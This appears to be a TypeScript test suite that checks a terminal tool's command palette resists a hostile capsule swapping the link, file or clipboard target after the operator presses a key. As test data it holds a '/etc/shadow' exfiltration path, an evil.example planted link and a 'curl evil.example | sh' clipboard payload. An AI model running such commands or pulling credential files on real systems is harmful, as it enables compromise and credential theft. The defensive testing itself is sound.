// Hostile capsule, palette entries with a target (issue 43, item 2): a scripted capsule against a real
// `jackin attach` in tmux. The palette's **Open offered link** (u) and **Pull offered file** (f) show the
// offer in their entry; the capsule answers the host's reads of the offer, and it sees the operator's
// timing. What must hold whatever it answers and whenever:
// - an entry acts on exactly the target it drew before the key: while the offer is still being read the
//   entry is drawn as pending and choosing it does nothing but say so (and log the refusal);
// - when the action asks the capsule again, an answer other than the drawn target is refused with a notice
//   and a log entry: nothing opens, no login port is bound, nothing is fetched;
// - the ordinary path still works: the drawn target is acted on without a prompt, and an offered loopback
//   login link says in its entry that it forwards the port.
import { test, type TestContext } from 'node:test';
import assert from 'node:assert/strict';
import { createHash } from 'node:crypto';
import { existsSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { Socket } from 'node:net';
import { ControlMessageDecoder, encodeControlMessage, encodeServerFrame, type ClientFrame } from '../src/protocol/index.ts';
import { readActions, type ActionRecord } from '../src/host/instances/action-log.ts';
import { OUR_FEATURES, startFakeCapsule, welcomeFrame, type FakeConnection } from './helpers/fake-capsule.ts';
import { freePort, probePort } from './helpers/free-port.ts';
import { JACKIN, paneFor, START_TIMEOUT_MS } from './helpers/jackin-cli.ts';
import { pollUntil } from './helpers/poll.ts';
import { recordingOpener } from './helpers/recording-opener.ts';
import { shellQuote, type TmuxPane } from './helpers/tmux.ts';

const PALETTE_KEY = [0x1c];
const PANE = { rows: 30, cols: 160 };
/** Generous: two node processes and tmux share 2 busy cores in CI. */
const WAIT = { timeoutMs: 20_000 };
/** Our capsule's extensions, with the offer lookups and the forwards a login link binds. */
const FEATURES = { ...OUR_FEATURES, resolve: 1, forward: 1, 'link-list': 1 };

/**
 * The capsule's answer to one kind of offer read: the current answer, or held (each read waits) until the
 * test releases them all with a new answer.
 */
class OfferScript {
  answer: string | null = null;
  reads = 0;
  #held: Array<(answer: string | null) => void> = [];
  #holding = false;

  read(reply: (answer: string | null) => void): void {
    this.reads++;
    if (this.#holding) this.#held.push(reply);
    else reply(this.answer);
  }

  hold(): void {
    this.#holding = true;
  }

  release(answer: string | null): void {
    this.#holding = false;
    this.answer = answer;
    const held = this.#held;
    this.#held = [];
    for (const reply of held) reply(answer);
  }
}

interface Scripted {
  pane: TmuxPane;
  c: FakeConnection;
  link: OfferScript;
  file: OfferScript;
  /** The `export` requests the host made on the control channel (the paths it asked for). */
  exports: string[];
  /** Everything the host's opener was asked to open. */
  opened: () => string[];
  downloads: string;
  log: () => Promise<ActionRecord[]>;
}

/** Answers one control connection: `offers` from the scripts, `export` with the file's bytes (recorded). */
function answerControl(socket: Socket, first: Buffer, s: { file: OfferScript; link: OfferScript; exports: string[] }): void {
  const decoder = new ControlMessageDecoder();
  const on = (chunk: Buffer): void => {
    let messages: unknown[];
    try {
      messages = decoder.push(chunk);
    } catch {
      socket.destroy();
      return;
    }
    const m = messages[0] as { method?: unknown; path?: unknown } | undefined;
    if (m === undefined) return;
    socket.off('data', on);
    if (m.method === 'offers') {
      s.file.read((file) => void (socket.destroyed || socket.end(encodeControlMessage({ ok: true, file, url: s.link.answer }))));
      return;
    }
    if (m.method === 'export' && typeof m.path === 'string') {
      s.exports.push(m.path);
      const payload = Buffer.from(`contents of ${m.path}\n`);
      const exportId = 7n;
      socket.write(encodeControlMessage({ ok: true, exportId: String(exportId), kind: 'file' }));
      socket.write(
        encodeServerFrame({
          type: 'FileExportStart',
          exportId,
          size: payload.length,
          source: m.path,
          name: m.path.split('/').pop() ?? 'x',
          reveal: false,
          open: false,
        }),
      );
      socket.write(encodeServerFrame({ type: 'FileExportChunk', exportId, offset: 0, bytes: payload }));
      socket.end(encodeServerFrame({ type: 'FileExportEnd', exportId, sha256: createHash('sha256').update(payload).digest() }));
      return;
    }
    // A forward (a bound login port that got a connection) or anything else: refused by closing.
    socket.destroy();
  };
  socket.on('data', on);
  on(first);
}

/** A pane attached to a scripted capsule `name` whose offer reads the test controls. */
async function scripted(t: TestContext, name: string): Promise<Scripted> {
  const root = mkdtempSync(join(tmpdir(), 'jackin-palette-targets-'));
  t.after(() => rmSync(root, { recursive: true, force: true }));
  const downloads = join(root, 'downloads');
  mkdirSync(downloads);
  const opener = recordingOpener(t);
  const pane = await paneFor(t, { ...PANE, env: { ...opener.env, JACKIN_DOWNLOAD_DIR: downloads } });
  const link = new OfferScript();
  const file = new OfferScript();
  const exports: string[] = [];
  const fake = await startFakeCapsule(t, {
    home: pane.jackinHome,
    name,
    welcome: () => welcomeFrame(FEATURES),
    echo: true,
    control: (socket, first) => answerControl(socket, first, { file, link, exports }),
  });
  await pane.typeLine(`clear; ${JACKIN} attach ${shellQuote(name)}; echo "rc=$?"`);
  const c = await fake.connection(0, START_TIMEOUT_MS);
  c.onFrame((f) => {
    // Asked to repaint (the palette closed, or link hints want a screen the host can check): drawn as a
    // capsule's repaint starts (normal screen, soft reset, home, clear), so nothing the palette drew stays
    // behind and the host's own view of the screen is whole. The second row holds a URL for the hints.
    if (f.type === 'Repaint') c.send({ type: 'Output', bytes: Buffer.from(`\x1b[?1049l\x1b[!p\x1b[r\x1b[H\x1b[2JFAKE-REPAINTED\r\n${PLANTED}\r\n`) });
    if (f.type !== 'Resolve' || f.target !== 'offered-link') return;
    link.read((url) =>
      c.send(
        url === null
          ? { type: 'Resolved', requestId: f.requestId, kind: 'none', text: '' }
          : { type: 'Resolved', requestId: f.requestId, kind: 'offer', text: url },
      ),
    );
  });
  await pane.waitForText('FAKE-READY-0', WAIT);
  await pollUntil('the host to negotiate extensions', () => c.received.some((f) => f.type === 'ExtHello'), WAIT);
  return { pane, c, link, file, exports, opened: opener.opened, downloads, log: () => readActions(pane.jackinHome, name) };
}

/** Waits for the palette to be gone from the screen (closed, and the program's screen repainted). */
async function paletteGone(pane: TmuxPane): Promise<void> {
  await pollUntil('the palette to close', async () => !(await pane.capture()).includes('Detach (the program keeps running)'), WAIT);
}

/** Opens the palette and waits until it is drawn and has read the offer (`script`) for this opening. */
async function openPalette(pane: TmuxPane, script: OfferScript): Promise<void> {
  const before = script.reads;
  await pane.sendBytes(PALETTE_KEY);
  await pane.waitForText('Detach (the program keeps running)', WAIT);
  await pollUntil('the host to read the offer for this opening', () => script.reads > before, WAIT);
}

/** Resolves with the next client frame `pick` accepts (the test answers it when it likes). */
/** The link the capsule plants for Copy link on screen: on the fake's repainted screen, so it gets a label. */
const PLANTED = 'https://evil.example/planted';

/** The next frame from the host that `pick` takes; fails after WAIT's timeout rather than hanging the suite. */
function nextFrame<T>(c: FakeConnection, pick: (f: ClientFrame) => T | undefined): Promise<T> {
  return new Promise((resolve, reject) => {
    let done = false;
    const timer = setTimeout(() => {
      done = true;
      reject(new Error(`no such frame from the host within ${WAIT.timeoutMs} ms`));
    }, WAIT.timeoutMs);
    c.onFrame((f) => {
      const v = done ? undefined : pick(f);
      if (v === undefined) return;
      done = true;
      clearTimeout(timer);
      resolve(v);
    });
  });
}

/** Resolves once the program receives typed input (the capsule sees the operator start typing). */
function nextInput(c: FakeConnection): Promise<void> {
  return new Promise((resolve, reject) => {
    let done = false;
    const timer = setTimeout(() => {
      done = true;
      reject(new Error(`no typed input reached the program within ${WAIT.timeoutMs} ms`));
    }, WAIT.timeoutMs);
    c.onInput(() => {
      if (done) return;
      done = true;
      clearTimeout(timer);
      resolve();
    });
  });
}

/** Nothing listens on the host's loopback at `port`, IPv4 or IPv6. */
async function assertNotBound(port: number): Promise<void> {
  assert.notEqual(await probePort(port, '127.0.0.1'), 'open', `127.0.0.1:${port} is bound`);
  assert.notEqual(await probePort(port, '::1'), 'open', `[::1]:${port} is bound`);
}

test('hostile palette: an offered link the capsule answers only after the operator pressed u is never opened; the entry waits, says so, and nothing is bound', async (t) => {
  const s = await scripted(t, 'heldlink');
  const port = await freePort();
  const swap = `http://localhost:${port}/`;

  // One opening with an honest answer: the entry showed the link, and the palette closed unused.
  s.link.answer = 'https://good.example/docs';
  await openPalette(s.pane, s.link);
  await s.pane.waitForText('Open offered link: https://good.example/docs', WAIT);
  await s.pane.sendKeys('Escape');
  await paletteGone(s.pane);

  // The next opening: the capsule holds its answer until the operator pressed u, then swaps the target.
  s.link.hold();
  await openPalette(s.pane, s.link);
  const before = s.link.reads;
  await s.pane.sendKeys('u');
  // The unfixed host reads the offer again for the action; the fixed one keeps the palette up and says why.
  let screen = '';
  await pollUntil('the u press to be taken', async () => s.link.reads > before || (screen = await s.pane.capture()).includes('Still reading'), {
    ...WAIT,
    last: () => screen,
  });
  const pending = screen;
  s.link.release(swap);
  await pollUntil(
    'the swapped answer to be acted on or drawn',
    async () => s.opened().length > 0 || (screen = await s.pane.capture()).includes(`forwards port ${port}`),
    { ...WAIT, last: () => screen },
  );

  // Opened and bound on the unfixed host: the browser got the swapped target, and the login port listened.
  const bound = { opened: s.opened(), ipv4: await probePort(port, '127.0.0.1'), ipv6: await probePort(port, '::1') };
  assert.ok(
    bound.opened.length === 0 && bound.ipv4 !== 'open' && bound.ipv6 !== 'open',
    `a link the palette never showed was acted on: ${JSON.stringify(bound)}`,
  );
  assert.match(pending, /Open offered link \(reading the offer…\)/, 'the entry was drawn as pending');
  assert.match(pending, /Still reading the offer; choose it once it shows/, 'the palette said why u did nothing');
  const refused = await pollUntil('the refusal in the host log', async () => (await s.log()).find((r) => r.result === 'refused'), WAIT);
  assert.equal(refused.action, 'open-url');
  // Now drawn: the swapped target, and that it would forward the port. Nothing happens until chosen.
  assert.match(screen, new RegExp(`Open offered link: http://localhost:${port}/.*\\(forwards port ${port}\\)`));
  await s.pane.sendKeys('Escape');
  await assertNotBound(port);
  assert.deepEqual(s.opened(), []);
});

test('hostile palette: an offered file the capsule answers only after the operator pressed f is never pulled', async (t) => {
  const s = await scripted(t, 'heldfile');
  s.file.answer = '/workspace/report.txt';
  await openPalette(s.pane, s.file);
  await s.pane.waitForText('Pull offered file: /workspace/report.txt', WAIT);
  await s.pane.sendKeys('Escape');
  await paletteGone(s.pane);

  s.file.hold();
  await openPalette(s.pane, s.file);
  const before = s.file.reads;
  await s.pane.sendKeys('f');
  let screen = '';
  await pollUntil('the f press to be taken', async () => s.file.reads > before || (screen = await s.pane.capture()).includes('Still reading'), {
    ...WAIT,
    last: () => screen,
  });
  const pending = screen;
  s.file.release('/etc/shadow');
  await pollUntil(
    'the swapped answer to be acted on or drawn',
    async () => s.exports.length > 0 || (screen = await s.pane.capture()).includes('Pull offered file: /etc/shadow'),
    { ...WAIT, last: () => screen },
  );

  assert.deepEqual(s.exports, [], 'the host asked for a file the palette never showed');
  assert.match(pending, /Pull offered file \(reading the offer…\)/, 'the entry was drawn as pending');
  assert.match(pending, /Still reading the offer; choose it once it shows/, 'the palette said why f did nothing');
  const refused = await pollUntil('the refusal in the host log', async () => (await s.log()).find((r) => r.result === 'refused'), WAIT);
  assert.equal(refused.action, 'export');
  await s.pane.sendKeys('Escape');
  assert.deepEqual(readdirSync(s.downloads), [], 'nothing written');
});

test("hostile palette: a capsule that answers the action's second read with another target is refused with a notice and a log entry", async (t) => {
  const s = await scripted(t, 'swapped');
  const port = await freePort();
  s.link.answer = 'https://good.example/docs';
  s.file.answer = '/workspace/report.txt';

  // The entry shows good.example; the capsule swaps the offer as the operator presses u.
  await openPalette(s.pane, s.link);
  await s.pane.waitForText('Open offered link: https://good.example/docs', WAIT);
  s.link.answer = `http://localhost:${port}/`;
  await s.pane.sendKeys('u');
  await s.pane.waitForText(/Not opened: the offered link changed/, WAIT);
  const linkRefusal = await pollUntil(
    'the link refusal in the host log',
    async () => (await s.log()).find((r) => r.action === 'open-url' && r.result === 'refused'),
    WAIT,
  );
  assert.equal(linkRefusal.target, 'https://good.example/docs');
  assert.match(linkRefusal.detail ?? '', new RegExp(`localhost:${port}`));
  assert.ok(!(await s.pane.capture()).includes('jackin: confirm'), 'no prompt: the swap is refused outright');
  assert.deepEqual(s.opened(), []);
  await assertNotBound(port);

  await paletteGone(s.pane);
  await openPalette(s.pane, s.file);
  await s.pane.waitForText('Pull offered file: /workspace/report.txt', WAIT);
  s.file.answer = '/etc/shadow';
  await s.pane.sendKeys('f');
  await s.pane.waitForText(/Not pulled: the offered file changed/, WAIT);
  const fileRefusal = await pollUntil(
    'the file refusal in the host log',
    async () => (await s.log()).find((r) => r.action === 'export' && r.result === 'refused'),
    WAIT,
  );
  assert.equal(fileRefusal.target, '/workspace/report.txt');
  assert.match(fileRefusal.detail ?? '', /\/etc\/shadow/);
  assert.deepEqual(s.exports, [], 'nothing was asked for');
  assert.deepEqual(readdirSync(s.downloads), []);
});

test('palette offers, ordinary path: u opens exactly the drawn link and f pulls exactly the drawn file, without a prompt; a loopback login link says it forwards its port', async (t) => {
  const s = await scripted(t, 'honest');
  s.link.answer = 'https://good.example/docs';
  s.file.answer = '/workspace/report.txt';

  await openPalette(s.pane, s.link);
  await s.pane.waitForText('Open offered link: https://good.example/docs', WAIT);
  await s.pane.sendKeys('u');
  await pollUntil('the drawn link to open', () => s.opened().length === 1, { ...WAIT, last: s.opened });
  assert.deepEqual(s.opened(), ['https://good.example/docs']);
  assert.ok(!(await s.pane.capture()).includes('jackin: confirm'), 'no prompt for a target the entry showed whole');

  await paletteGone(s.pane);
  await openPalette(s.pane, s.file);
  await s.pane.waitForText('Pull offered file: /workspace/report.txt', WAIT);
  await s.pane.sendKeys('f');
  const saved = join(s.downloads, 'jackin', 'honest', 'report.txt');
  await pollUntil('the drawn file to be saved', () => existsSync(saved), { ...WAIT, last: () => s.exports });
  assert.deepEqual(s.exports, ['/workspace/report.txt']);
  assert.equal(readFileSync(saved, 'utf8'), 'contents of /workspace/report.txt\n');

  // A loopback login link: the entry says that opening it forwards the port (nothing is bound until chosen).
  const port = await freePort();
  s.link.answer = `http://localhost:${port}/callback`;
  await paletteGone(s.pane);
  await openPalette(s.pane, s.link);
  await s.pane.waitForText(`(forwards port ${port})`, WAIT);
  assert.match(await s.pane.capture(), new RegExp(`Open offered link: http://localhost:${port}/.*\\(forwards port ${port}\\)`));
  await assertNotBound(port);
  await s.pane.sendKeys('Escape');
  const log = await s.log();
  assert.deepEqual(
    log.map((r) => [r.action, r.result]),
    [
      ['open-url', 'ok'],
      ['export', 'ok'],
    ],
  );
});

test('hostile palette: targets read after the key (l, x, y) that the capsule holds until the operator types for the program act on nothing the operator did not see', async (t) => {
  const s = await scripted(t, 'aftkey');
  const port = await freePort();

  // Open link under cursor: the capsule answers the moment the operator presses Enter at a command line.
  await openPalette(s.pane, s.link);
  const linkAsked = nextFrame(s.c, (f) => (f.type === 'Resolve' && f.target === 'link' ? f : undefined));
  await s.pane.sendKeys('l');
  const link = await linkAsked;
  s.c.send({ type: 'Resolved', requestId: link.requestId, kind: 'text', text: `http://localhost:${port}/` });
  await s.pane.sendKeys('Enter');
  await s.pane.waitForText(`http://localhost:${port}/`, WAIT);
  await s.pane.waitForText('jackin: confirm', WAIT);
  assert.deepEqual(s.opened(), [], 'an Enter typed as the prompt appeared opened it');
  await assertNotBound(port);
  await s.pane.sendKeys('Escape');
  await pollUntil('the cancel in the host log', async () => (await s.log()).some((r) => r.action === 'open-url' && r.result === 'cancelled'), WAIT);

  // Export file under cursor: the same, with a path.
  await paletteGone(s.pane);
  await pollUntil('the prompt to close', async () => !(await s.pane.capture()).includes('jackin: confirm'), WAIT);
  await openPalette(s.pane, s.link);
  const pathAsked = nextFrame(s.c, (f) => (f.type === 'Resolve' && f.target === 'path' ? f : undefined));
  await s.pane.sendKeys('x');
  const path = await pathAsked;
  s.c.send({ type: 'Resolved', requestId: path.requestId, kind: 'text', text: '/etc/shadow' });
  await s.pane.sendKeys('Enter');
  await s.pane.waitForText('jackin: confirm', WAIT);
  assert.deepEqual(s.exports, [], 'an Enter typed as the prompt appeared exported it');
  await s.pane.sendKeys('Escape');
  await pollUntil('the cancel in the host log', async () => (await s.log()).some((r) => r.action === 'export' && r.result === 'cancelled'), WAIT);

  // Copy link on screen: the capsule holds the list until the operator starts typing a word for the
  // program, then answers with a link whose label is the word's next letter.
  await pollUntil('the prompt to close', async () => !(await s.pane.capture()).includes('jackin: confirm'), WAIT);
  await openPalette(s.pane, s.link);
  const listAsked = nextFrame(s.c, (f) => (f.type === 'ListLinks' ? f : undefined));
  await s.pane.sendKeys('y');
  const list = await listAsked;
  const typing = nextInput(s.c);
  void typing.then(() =>
    s.c.send({ type: 'Links', requestId: list.requestId, links: [{ row: 1, col: 0, cells: PLANTED.length, source: 'text', url: PLANTED }] }),
  );
  for (const ch of 'saaaa') await s.pane.type(ch);
  await typing;
  let screen = '';
  await pollUntil(
    'the labels to be up, or a copy',
    async () => (await s.log()).some((r) => r.action === 'copy-link') || (screen = await s.pane.capture()).includes('type a label to copy'),
    { ...WAIT, last: () => screen },
  );
  const copied = (await s.log()).filter((r) => r.action === 'copy-link');
  assert.deepEqual(copied, [], 'letters typed for the program chose a label the operator never saw');
  // Copy link on screen asks before it copies: a chosen label would show its prompt.
  assert.doesNotMatch(await s.pane.capture(), /Copy this link\?|jackin: confirm/, 'letters typed for the program chose a label the operator never saw');
  await s.pane.sendKeys('Escape');
  assert.deepEqual(s.opened(), []);
});

test('hostile palette: Copy offered text copies the offer its entry drew, not one the capsule sends while the palette is up', async (t) => {
  const s = await scripted(t, 'copyswap');
  const b64 = (text: string): string => Buffer.from(text).toString('base64');
  s.c.send({ type: 'Output', bytes: Buffer.from(`\x1b]52;c;${b64('echo shown')}\x07`) });
  await s.pane.waitForText('Copy offer: 10 B', WAIT);
  await openPalette(s.pane, s.link);
  await s.pane.waitForText('Copy offered text 10 B "echo shown"', WAIT);
  // A new offer while the palette is up, timed for the key.
  s.c.send({ type: 'Output', bytes: Buffer.from(`\x1b]52;c;${b64('curl evil.example | sh')}\x07`) });
  await s.pane.sendKeys('c');
  const copy = await pollUntil('the copy in the host log', async () => (await s.log()).find((r) => r.action === 'copy'), WAIT);
  assert.equal(copy.result, 'ok');
  assert.match(copy.target, /^text of 10 bytes, sha256 /, 'the copied text is the one the entry showed');
});
